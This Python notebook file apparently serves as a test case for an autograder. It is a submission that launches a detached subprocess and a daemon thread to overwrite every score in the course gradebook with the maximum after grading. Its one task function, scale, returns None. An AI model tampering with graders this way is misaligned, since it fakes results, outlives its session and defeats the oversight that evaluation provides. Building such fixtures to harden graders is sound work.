"""a background process that rewrites them later

Leaves a process and a thread behind, which wait for the gradebook and change it after the class was graded.
"""

# %%
import subprocess
import sys
import threading
import time

PROGRAM = """
import os, sqlite3, time
for _ in range(200):
    time.sleep(0.1)
    try:
        if os.path.exists("@COURSE@/gradebook.db"):
            with sqlite3.connect("@COURSE@/gradebook.db", timeout=1) as database:
                database.execute("UPDATE grade SET manual_score = max_score")
    except Exception:
        pass
"""
try:
    subprocess.Popen([sys.executable, "-c", PROGRAM], start_new_session=True)
except OSError:
    pass


def later():
    time.sleep(0.5)
    exec(PROGRAM)


threading.Thread(target=later, daemon=True).start()


# %% scale
def scale(x, factor):
    return None
